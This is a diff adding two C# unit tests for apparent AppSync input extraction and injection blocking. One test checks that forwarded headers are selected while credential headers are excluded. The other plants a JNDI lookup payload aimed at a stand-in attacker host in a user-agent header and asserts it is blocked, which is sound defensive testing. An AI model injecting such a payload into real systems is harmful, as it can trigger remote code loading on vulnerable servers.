@@ -297,6 +297,46 @@ public sealed class LambdaInputExtractionTests
         Assert.Equal(firstArguments, System.Text.Json.Nodes.JsonNode.Parse(seen.Text(paths[0]))!.ToJsonString());
     }
 
+    // AppSync forwards the client's HTTP headers: they are selected as for any HTTP request, credentials never, and the
+    // headers of a batch (one GraphQL request) are read once.
+    [Fact]
+    public async Task Extract_AppSyncResolver_ForwardedHeadersAreSelectedAsForHttp()
+    {
+        static System.Text.Json.Nodes.JsonObject Headers() => new()
+        {
+            ["host"] = "example.appsync-api.us-east-1.amazonaws.com",
+            ["user-agent"] = "Mozilla/5.0 (X11; Linux x86_64)",
+            ["x-tenant"] = "contoso",
+            ["authorization"] = "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig",
+            ["x-api-key"] = "da2-secretsecretsecret",
+        };
+
+        var direct = await RunAsync(Fixtures.With("appsync-direct-resolver", e => e["request"] = new System.Text.Json.Nodes.JsonObject { ["headers"] = Headers() }));
+        var calls = System.Text.Json.Nodes.JsonNode.Parse(Fixtures.Bytes("appsync-batch-resolver"))!.AsArray();
+        foreach (var call in calls)
+        {
+            call!["request"] = new System.Text.Json.Nodes.JsonObject { ["headers"] = Headers() };
+        }
+
+        var batch = await RunAsync(System.Text.Encoding.UTF8.GetBytes(calls.ToJsonString()));
+
+        Assert.Equal(["arguments", "headers.user-agent", "headers.x-tenant"], direct.Inputs.Select(i => i.Path));
+        Assert.Equal(["[0].arguments", "headers.user-agent", "headers.x-tenant", "[1].arguments"], batch.Inputs.Select(i => i.Path));
+        Assert.All(direct.Inputs.Concat(batch.Inputs), i => Assert.Equal(i.Path.StartsWith("headers.", StringComparison.Ordinal), i.IsMetadata));
+        Assert.Null(direct.Http);
+    }
+
+    [Fact]
+    public async Task AppSyncResolver_InjectionInAForwardedHeader_IsBlocked()
+    {
+        var function = new ShieldedFunction();
+
+        await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(Fixtures.With("appsync-direct-resolver", e =>
+            e["request"]!["headers"]!["user-agent"] = "${jndi:ldap://attacker.example/a}")));
+
+        Assert.Empty(function.Received);
+    }
+
     // The selection set is fixed by the schema: a field named "id" on a line of its own is not the id command.
     [Fact]
     public async Task AppSyncResolver_SelectionSetIsNotRequestInput_ArgumentsAre()
